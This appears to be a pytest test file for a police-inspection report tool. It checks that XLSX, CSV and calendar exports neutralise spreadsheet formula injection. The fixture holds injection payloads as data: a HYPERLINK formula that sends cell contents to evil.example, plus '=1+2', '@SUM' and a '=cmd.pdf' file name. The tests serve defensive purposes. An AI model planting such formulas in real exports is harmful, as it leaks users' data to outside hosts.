"""No export carries a live formula: XLSX text cells are strings, CSV cells cannot start a formula
(OWASP's CSV-injection advice), calendar texts likewise."""

import csv
import zipfile

import openpyxl
import pytest
from click.testing import CliRunner
from icalendar import Calendar

from hmicfrs import cli
from hmicfrs.exports.cells import neutralise
from hmicfrs.samples import Item, Sample, build_pdf, filler

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def run(*args):
    return CliRunner().invoke(cli.main, [str(a) for a in args], catch_exceptions=False)


@pytest.fixture
def hostile_db(tmp_path):
    sample = Sample('=HYPERLINK("http://evil.example/?x="&A1,"Inspection of Kent Police")', "16 May 2024", [
        ("h", "Recommendations"), filler(3),
        Item("Recommendation 1", "=1+2 By 31 March 2025, all chief constables should review their custody "
             "procedures."),
        Item("Recommendation 2", "@SUM(A1:A9) By 30 June 2025, chief constables should publish the results."),
        filler(3, 1)])
    pdf = build_pdf(sample, tmp_path / "=cmd.pdf")
    db_path = tmp_path / "t.db"
    assert run("ingest", pdf, "--db", db_path).exit_code == 0
    return db_path


def test_xlsx_writes_text_as_strings_never_formulas(hostile_db, tmp_path):
    out = tmp_path / "t.xlsx"
    run("triage", "--db", hostile_db, "--xlsx", out)
    with zipfile.ZipFile(out) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    ws = openpyxl.load_workbook(out).active
    texts = [c.value for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert any(t.startswith("=1+2") for t in texts) and any(t.startswith("=cmd") for t in texts)
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_csv_cells_cannot_start_a_formula(hostile_db, tmp_path):
    out = tmp_path / "t.csv"
    run("triage", "--db", hostile_db, "--csv", out)
    cells = [c for row in csv.reader(out.open(encoding="utf-8-sig")) for c in row]
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    assert "'=1+2" in "".join(cells) and "'@SUM(A1:A9)" in "".join(cells) and "'=cmd.pdf" in cells


def test_calendar_texts_cannot_start_a_formula(hostile_db, tmp_path):
    out = tmp_path / "t.ics"
    run("calendar", "--db", hostile_db, "--ics", out)
    events = Calendar.from_ical(out.read_bytes()).walk("VEVENT")
    assert events and all(not str(e["description"]).startswith(DANGEROUS) for e in events)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+44 121", "'+44 121"), ("-2", "'-2"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Plain text", "Plain text"), ("", ""), (3, 3), (None, None)])
def test_neutralise(value, expected):
    assert neutralise(value) == expected
